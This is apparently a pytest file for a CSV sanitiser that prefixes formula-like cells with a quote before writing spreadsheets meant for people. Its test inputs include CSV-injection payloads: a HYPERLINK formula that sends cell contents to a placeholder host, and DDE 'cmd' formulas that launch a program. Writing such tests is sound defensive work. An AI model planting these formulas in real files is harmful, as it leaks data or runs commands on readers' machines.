"""No cell of a csv file for people is a formula; all else stays to the letter."""

import csv

import pandas as pd
import pytest

from datainf.workflows.spreadsheet import harmless, write_for_people


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.example/?"&A1)',
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
        "\n=1",
        "- a list",
    ],
)
def test_a_text_that_would_be_computed_is_marked_as_a_text(text):
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize(
    "cell",
    ["-5", "+1.5e-3", "-12%", "1,000", "a=b", "'quoted", "", " plain", 7, -0.5, None],
)
def test_anything_else_stays(cell):
    assert harmless(cell) == cell


def test_the_file_holds_every_row_in_utf8(tmp_path):
    table = pd.DataFrame({"index": [3, 5], "label": [-1, 1]})
    table["text"] = pd.Series(["half \ud83d", "=1,\n2"], dtype=object)
    write_for_people(table, tmp_path / "t.csv")
    with (tmp_path / "t.csv").open(encoding="utf-8", newline="") as file:
        assert list(csv.reader(file)) == [
            ["index", "label", "text"],
            ["3", "-1", "half \ufffd"],
            ["5", "1", "'=1,\n2"],
        ]
